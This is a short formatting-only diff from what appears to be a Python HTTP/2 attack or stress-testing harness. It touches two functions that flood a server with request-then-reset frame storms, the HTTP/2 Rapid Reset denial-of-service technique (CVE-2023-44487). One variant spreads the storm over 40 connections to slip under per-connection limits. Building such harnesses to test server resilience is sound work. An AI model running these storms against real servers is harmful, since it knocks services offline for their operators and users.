@@ -57,14 +57,16 @@ def window_overflow(context):
 def rapid_reset(context):
     """Each call is reset as soon as it is sent (CVE-2023-44487)."""
     storm(context, lambda stream: (
-        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY) + reset(stream)), by_server=False)
+        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY) + reset(stream)),
+        by_server=False)
 
 
 @attack("rapid-reset-crowd", "resets", seconds=8)
 def rapid_reset_crowd(context):
     """The same on 40 connections, each below the limit for one."""
     storm(context, lambda stream: (
-        frame(HEADERS, END_HEADERS, stream, GET) + frame(DATA, END_STREAM, stream, GET_BODY) + reset(stream)), 40, by_server=False)
+        frame(HEADERS, END_HEADERS, stream, GET) + frame(DATA, END_STREAM, stream, GET_BODY) + reset(stream)),
+        40, by_server=False)
 
 
 @attack("zero-increment", "resets", seconds=8)
